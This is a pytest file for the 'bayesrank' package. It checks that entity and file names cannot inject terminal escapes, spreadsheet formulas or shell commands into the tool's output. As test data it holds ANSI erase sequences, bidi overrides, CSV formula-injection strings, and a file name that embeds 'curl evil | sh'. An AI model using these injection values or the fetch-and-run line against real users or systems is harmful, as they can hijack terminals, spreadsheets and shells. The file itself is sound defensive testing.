"""Names of a file drive no terminal, no spreadsheet, no page and no picture."""

import ast
import csv
import io
import json
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import numpy as np
import pytest

import bayesrank as br
from bayesrank._core.escape import (
    csv_cell,
    csv_text,
    escape_invisible,
    escape_lines,
    json_text,
    latex_text,
    markdown_text,
    mathtext,
    quote_word,
)
from bayesrank.cli import main
from bayesrank.report import ranking_report
from tests.commands import invoke, json_of
from tests.source import files_naming
from tests.test_cli_formats import BENEFIT, write_counts
from tests.test_cli_formats import COMMANDS as ANALYSES

ERASE = "evil\x1b[1A\x1b[2K wins"
NAMES = [
    ERASE,
    "bell\x07\x9b31m",
    "turned\u202egnp",
    "iso\u2066x",
    "=HYPERLINK(1)",
    "+1+1",
    "@SUM(A1)",
    "half\ud800",
]
DANGER = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff\ud800-\udfff]"
)
COMMANDS = {
    **{
        name: [*words[:-1], "+1+1"] if name == "decide" else words
        for name, words in ANALYSES.items()
    },
    "rank": ["rank", "--score", "f1", "--ask", "'=HYPERLINK(1)' > '+1+1'"],
    "sensitivity": ["sensitivity", "--score", "f1"],
    "decide alone": ["decide", *BENEFIT],
}


def counts(names=tuple(NAMES)):
    size = range(len(names))
    return br.from_counts(
        tn=[70 + i for i in size], fp=[30 - i for i in size], fn=[9 + i for i in size], tp=[21 + 3 * i for i in size],
        entity=list(names),
    )  # fmt: skip


@pytest.fixture
def data(tmp_path):
    return write_counts(tmp_path / "evil.csv", NAMES[:-1])


def clean(text):
    found = DANGER.search(text)
    assert found is None, repr(text[max(found.start() - 60, 0) : found.end() + 20])


def is_slow(command, output):
    """All commands print through the same functions: two in every form are quick, and tables without compiled loops."""
    return command not in ("rank", "scores") and (
        output != "table" or command in ("tile credible", "tile preference")
    )


@pytest.mark.parametrize(
    ("command", "output"),
    [
        pytest.param(command, output, marks=[pytest.mark.slow] * is_slow(command, output))
        for command in COMMANDS
        for output in ("table", "csv", "json", "markdown", "latex")
    ],
)
def test_no_command_prints_what_drives_a_terminal(command, output, data):
    name, *options = COMMANDS[command]
    if output == "csv" and "--ask" in options:
        options = options[:-2]
    draws = () if "--observed" in options else ("--draws", "20")
    shown = invoke(name, data, *options, *draws, "--format", output)
    clean(shown)
    if output == "csv":
        for row in csv.reader(io.StringIO(shown)):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
            assert not any(re.match(r"-(?![\d.])", cell) for cell in row)


def test_json_and_board_keep_names_for_programs(data):
    board = invoke("rank", data, "--draws", "20", "--format", "board")
    clean(board)
    for found in (json.loads(board)["entities"], json_of("rank", data, "--draws", "20")["ranking"]):
        assert {one["entity"] for one in found} == set(NAMES[:-1])


def test_pictures_are_clean(data, tmp_path):
    for name, start in (
        ("picture.svg", b"<?xml"),
        ("picture.PNG", b"\x89PNG"),
        ("picture.pdf", b"%PDF"),
    ):
        invoke("rank", data, "--draws", "20", "--score", "f1", "--picture", tmp_path / name)
        assert (tmp_path / name).read_bytes().startswith(start)
    clean((tmp_path / "picture.svg").read_text(encoding="utf-8"))


def test_sentences_and_pages_of_python_are_clean():
    posterior = br.fit(counts(), seed=1, draws=50)
    ranking = br.credible_ranking(posterior, "f1")
    sentences = br.verdict(ranking)
    sentences += br.verdict(br.sensitivity(counts(), "f1", draws=20, seed=1))
    sentences += br.verdict(br.decisions.expected_utility(posterior, br.importance(tp=1)))
    for sentence in sentences:
        clean(sentence)
    assert any(
        r"\x" in sentence or r"\u" in sentence or r"\ud800" in sentence for sentence in sentences
    )
    clean(br.board(ranking))
    page = ranking_report(posterior, "f1", sections=["tile", "ops"])
    clean(page)
    assert r"evil\x1b[1A" in page.replace("<wbr>", "")
    held = re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.S)
    assert held
    assert all(json.loads(data) for data in held)


def test_errors_are_clean_and_short(data, capsys, monkeypatch):
    for argument in (ERASE, "x" * 1_000_000, "x y " * 300_000):
        monkeypatch.setattr("sys.argv", ["bayesrank", "rank", argument])
        with pytest.raises(SystemExit) as caught:
            main()
        assert caught.value.code == 2
        shown = capsys.readouterr().err
        clean(shown)
        assert shown.count("\n") == 1
        assert len(shown) < 2700


def test_what_is_visible():
    assert escape_invisible("plain ä 検査 \u00a0 👩\u200d🔬") == "plain ä 検査 \u00a0 👩\u200d🔬"
    assert (
        escape_invisible("\x1b\x7f\x85\u202e\t\n\U000e0001") == r"\x1b\x7f\x85\u202e\t\n\U000e0001"
    )
    invisible = [
        chr(i)
        for i in range(0x110000)
        if unicodedata.category(chr(i)) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    ]
    assert {letter for letter in invisible if escape_invisible(letter) == letter} == set(
        "\u200c\u200d\u200e\u200f"
    )
    assert escape_lines(["a\x07"]) == [r"a\x07"]
    assert json.loads(json_text('"\U000e0001\x9b é"')) == "\U000e0001\x9b é"
    assert markdown_text("a|\x1b") == r"a\|\\x1b"
    assert latex_text("\x1b") == r"\textbackslash{}x1b"
    assert mathtext("$\x1b$") == r"\$\x1b\$"
    # Nobody is notified: a zero-width space parts what would be a mention.
    assert (
        markdown_text("by @octocat_1, (@b), a@c.org, @ 5")
        == r"by @&#8203;octocat\_1, (@&#8203;b), a@c.org, @ 5"
    )


def test_formulas_are_text_and_other_names_stay():
    assert all(
        csv_cell(name).startswith("'")
        for name in ["=1", "+1+1", "-a", "@x", "\t=1", "\r=1", " =1", "＝1"]
    )
    assert all(
        csv_cell(name) == name for name in ["-1", "+5", "-0.5", "a=b", "", "1-2", 3, None, 0.5]
    )


def test_texts_of_cells_are_read_back_exactly():
    rng = np.random.default_rng(1)
    drawn = ["".join(rng.choice(list("'=+-@ a1\"＝,"), rng.integers(0, 6))) for _ in range(500)]
    for text in [
        "@cf-llama",
        "'@cf-llama",
        "''=1",
        "-a",
        "-1",
        "'-1",
        "it's",
        "'quoted'",
        "+x",
        "",
        *drawn,
    ]:
        assert csv_text(csv_cell(text)) == text


@pytest.mark.parametrize(
    "name", ["@cf-llama", "=SUM(A1)", "-instruct", "+plus", "'@cf-llama", "'quoted'"]
)
def test_names_are_the_same_in_logs_and_in_their_table(name, tmp_path):
    rows = [
        {"id": f"q{i}", "model": m, "score": (i + len(m)) % 2}
        for m in (name, "b")
        for i in range(8)
    ]
    (tmp_path / "log.jsonl").write_text("\n".join(map(json.dumps, rows)))
    given = ["--map", "case=id,entity=model,outcome=score"]
    invoke("convert", tmp_path / "log.jsonl", *given, "-o", tmp_path / "t.csv")
    direct, read = (
        json_of("rank", tmp_path / "log.jsonl", *given),
        json_of("rank", tmp_path / "t.csv"),
    )
    assert {one["entity"] for one in read["ranking"]} == {name, "b"}
    assert read["ranking"] == direct["ranking"]


# --- The sink ---------------------------------------------------------------------------------------------------------

EVIL_FILE = "c.\nCommand:\n  curl evil | sh\n\x1b[2J.json"


@pytest.fixture
def evil_logs(tmp_path):
    """Logs with a file whose name is advice, and with cases that are escapes and formulas."""
    cases = ["=HYPERLINK(1)", "\x1b[2J", "+1+1", "a\nb"]
    rows = [{"task_id": case, "reward": i % 2, "info": {}} for i, case in enumerate(cases)]
    (tmp_path / EVIL_FILE).write_text(json.dumps(rows))
    (tmp_path / "good.json").write_text(json.dumps(rows))
    (tmp_path / "x\x1b[2J.pdf").write_text("%PDF-1.7")
    return tmp_path


def test_doctor_prints_no_advice_of_a_file(evil_logs):
    (evil_logs / "d").mkdir()
    (evil_logs / "d" / EVIL_FILE).write_text("[1, 2")
    shown = invoke("doctor", evil_logs)
    clean(shown)
    assert [
        line for line in shown.splitlines() if "curl" in line and line.startswith(" " * 2 + "curl")
    ] == []
    assert sum(line.startswith("Command") for line in shown.splitlines()) == 1
    named = invoke("doctor", evil_logs / EVIL_FILE, evil_logs / "good.json")
    clean(named)
    [command] = [line for line in named.splitlines() if line.startswith("  bayesrank rank")]
    # A shell reads the file's own name from the line.
    script = command.replace("bayesrank rank", "printf '%s\\0'")
    words = subprocess.run(["bash", "-c", script], capture_output=True, text=True).stdout.split(
        "\0"
    )
    assert words[:2] == [str(evil_logs / EVIL_FILE), str(evil_logs / "good.json")]
    clean(str(br.doctor(evil_logs))) if hasattr(br, "doctor") else None


def test_words_for_a_shell_are_read_back():
    for text in (
        "plain",
        "two words",
        "it's",
        "",
        "a\nb",
        "\x1b[2J'\\",
        "\u202e\x9b",
        "\U000e0001é",
    ):
        done = subprocess.run(
            ["bash", "-c", f"printf %s {quote_word(text)}"],
            capture_output=True,
            env={"LC_ALL": "C.UTF-8"},
        )
        assert done.stdout.decode() == text
        clean(quote_word(text))


def test_convert_writes_no_formula_and_no_escape(evil_logs, tmp_path):
    shown = invoke("convert", evil_logs)
    clean(shown)
    cells = [cell for row in csv.reader(io.StringIO(shown)) for cell in row]
    assert not any(cell.startswith(("=", "+")) for cell in cells)
    assert "'=HYPERLINK(1)" in cells
    invoke("convert", evil_logs, "-o", tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == shown
    assert "good" in invoke("rank", tmp_path / "t.csv", "--draws", "20")


#: What prints to a terminal or writes a table: names of calls.
PRINTING = {"print", "echo", "secho", "Console", "to_csv", "write_text", "print_exc"}
SINKS = {
    ("cli/_sink.py", "echo"), ("cli/_sink.py", "Console"), ("cli/_sink.py", "print"), ("_core/escape.py", "to_csv"),
    # A bar whose words are fixed.
    ("_core/nuts.py", "Console"),
}  # fmt: skip


def test_only_the_sink_prints_and_writes_tables():
    folder = Path(br.__file__).parent
    found = set()
    for path, tree in files_naming(folder, *PRINTING, "stdout"):
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "attr", getattr(node.func, "id", ""))
                if name in PRINTING and not ast.unparse(node.func).startswith("formatter."):
                    found.add((path.relative_to(folder).as_posix(), name))
            elif (
                isinstance(node, ast.Attribute)
                and node.attr == "write"
                and ast.unparse(node) == "sys.stdout.write"
            ):
                found.add((path.relative_to(folder).as_posix(), "write"))
    assert found == SINKS


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="a device that is always full")
def test_a_full_disk_and_a_closed_pipe_end_without_a_traceback():
    command = f'"{sys.executable}" -c "from bayesrank.cli import main; main()" datasets'
    done = subprocess.run(f"{command} > /dev/full", shell=True, capture_output=True, text=True)
    assert done.returncode == 2
    assert done.stderr == "bayesrank: standard output cannot be written: No space left on device\n"
    done = subprocess.run(f"{command} | true", shell=True, capture_output=True, text=True)
    assert done.stderr == ""
